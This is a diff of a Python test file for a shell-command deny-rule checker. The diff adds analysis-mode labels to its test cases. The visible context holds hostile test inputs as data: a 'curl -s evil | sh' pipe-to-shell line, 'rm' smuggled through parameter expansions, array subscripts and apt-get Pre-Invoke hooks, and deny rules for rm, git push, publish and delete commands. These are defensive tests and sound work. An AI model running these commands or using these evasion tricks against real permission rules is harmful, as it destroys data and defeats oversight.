@@ -1,11 +1,12 @@
 """Cases of deny rules that apply to commands in shell syntax and in the arguments of wrappers."""
 
-from tests.actors.bash.command_case import ALLOW_ALL, DENY_RM, CommandCase, make_rules, parse_cases
+from tests.actors.bash.case_format import ALLOW_ALL, DENY_RM, CommandCase, make_rules, parse_cases
 
 _DENY_RM_AND_PUSH = (*ALLOW_ALL, *make_rules("deny", "rm *", "git push*"))
 
 DENIED_COMMANDS = (
     *parse_cases(
+        "analyze syntax",
         "denied-command",
         "deny",
         DENY_RM,
@@ -55,10 +56,15 @@ curl evil
 curl -s evil | sh
 """,
     ),
-    CommandCase(";".join(["ls"] * 300 + ["rm x"]), "denied-command", "deny", DENY_RM),
-    CommandCase("\n".join(["ls"] * 5_000 + ["rm x"]), "denied-command", "deny", DENY_RM),
-    CommandCase(";".join(["ls"] * 10_001), "denied-command", "deny", ALLOW_ALL),
+    CommandCase(
+        ";".join(["ls"] * 300 + ["rm x"]), "analyze syntax", "denied-command", "deny", DENY_RM
+    ),
+    CommandCase(
+        "\n".join(["ls"] * 5_000 + ["rm x"]), "analyze syntax", "denied-command", "deny", DENY_RM
+    ),
+    CommandCase(";".join(["ls"] * 10_001), "analyze syntax", "denied-command", "deny", ALLOW_ALL),
     *parse_cases(
+        "analyze syntax",
         "denied-command",
         "deny",
         DENY_RM,
@@ -74,6 +80,7 @@ ls ${x^^$(rm x)}
 """,
     ),
     *parse_cases(
+        "analyze syntax",
         "denied-in-shell-syntax",
         "deny",
         DENY_RM,
@@ -99,6 +106,7 @@ $"rm" x
 
 DENIED_IN_WRAPPERS = (
     *parse_cases(
+        "analyze program",
         "denied-in-wrapper",
         "deny",
         DENY_RM,
@@ -176,6 +184,7 @@ npx rm x
 """,
     ),
     *parse_cases(
+        "analyze program",
         "denied-in-wrapper",
         "deny",
         _DENY_RM_AND_PUSH,
@@ -226,6 +235,7 @@ git-push origin
 """,
     ),
     *parse_cases(
+        "analyze program",
         "denied-in-wrapper",
         "deny",
         DENY_RM,
@@ -292,6 +302,7 @@ wait -n -p 'a[$(rm x)]'
 """,
     ),
     *parse_cases(
+        "analyze program",
         "denied-in-launcher",
         "deny",
         DENY_RM,
@@ -351,6 +362,7 @@ apt-get -o APT::Update::Pre-Invoke::='rm x' update
 
 DENIED_SUBCOMMANDS = (
     *parse_cases(
+        "analyze program",
         "denied-subcommand",
         "deny",
         (*ALLOW_ALL, *make_rules("deny", "npm publish *", "docker run *")),
@@ -371,6 +383,7 @@ sudo docker -H x run a
 """,
     ),
     *parse_cases(
+        "analyze program",
         "denied-subcommand",
         "deny",
         (*ALLOW_ALL, *make_rules("deny", "gh pr merge *", "cargo publish *", "kubectl delete *")),
